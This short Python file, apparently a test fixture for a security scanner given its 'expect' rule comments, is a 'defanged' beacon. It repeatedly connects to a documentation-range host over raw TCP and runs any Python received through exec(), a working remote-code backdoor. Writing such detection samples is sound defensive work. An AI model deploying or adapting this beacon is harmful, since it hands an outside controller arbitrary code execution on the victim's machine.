# A beacon that runs whatever Python its controller sends over a raw TCP
# socket. Defanged: TEST-NET address.
import socket
import time

HOST, PORT = "198.51.100.23", 1244


def serve():
    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((HOST, PORT))  # expect: HS118 high
            s.sendall(b"ready")
            while True:
                cmd = s.recv(65536)
                if not cmd:
                    break
                exec(cmd.decode(), {"__name__": "__c2__"})  # expect: HS102 critical
        except OSError:
            time.sleep(30)


serve()
